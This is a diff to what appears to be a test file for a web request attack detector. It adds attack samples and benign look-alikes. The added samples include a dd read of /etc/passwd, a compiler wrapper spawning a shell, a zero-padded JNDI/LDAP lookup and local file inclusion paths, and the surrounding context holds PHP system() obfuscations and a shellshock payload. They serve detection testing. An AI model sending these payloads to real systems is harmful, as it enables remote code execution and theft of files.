@@ -159,6 +159,14 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['a name from strings after a cast', 'rce', 'q', '( string ) "sys"."t"."em" (\'uname\');'],
   ['a variable holding a built name, called', 'rce', 'q', "$y = 'sys'.'tem';($y)('uname');"],
   ['a constant holding a built name, called', 'rce', 'form', "define('x', 'sys' . 'tem');(x)/* c */('uname');"],
+  // Shell: dd given system files as its operands; a compiler told to run each pass under a shell.
+  ['dd reading a system file', 'rce', 'ua', 'dd if=/etc/passwd of=/tmp/x.sh bs=1 skip=22 count=9'],
+  ['a compiler wrapper running a shell', 'rce', 'form', 'c89 -wrapper sh,-c,id .'],
+  // Character references with any number of leading zeros, as browsers and HTML decoders read them.
+  ['a lookup behind zero-padded references', 'rce', 'ua', '&#x24;&#' + '0'.repeat(40) + '123;jndi:ldap://x.example/w}'],
+  // An application's configuration script asked of a parameter (local file inclusion).
+  ['a configuration script as a value', 'ptrav', 'q', 'config.php'],
+  ['a database script under a folder', 'ptrav', 'form', '/includes/database.inc'],
   // Whole-request points: the Referer's query is read like this request's.
   ['shell obfuscation in the Referer query', 'rce', 'ref', "wh''oami"],
   ['shellshock in the Referer query', 'rce', 'ref', '() { :;}; /bin/bash -c id'],
@@ -202,6 +210,9 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a dotted name in parentheses', 'form', "(see e.g. (the) docs)('x')"],
   ['an ordinary Referer query', 'ref', 'shoes size 42'],
   ['a search page address in the Referer query', 'ref', 'https://www.google.com/search?q=shoes'],
+  ['a client-side configuration file', 'q', 'config.js'],
+  ['a dd word in prose', 'q', 'dd if you must'],
+  ['a number with zeros as a reference', 'q', 'Ben &#0000038; Jerry'],
 ];
 
 for (const [name, cls, where, v] of ATTACKS) {
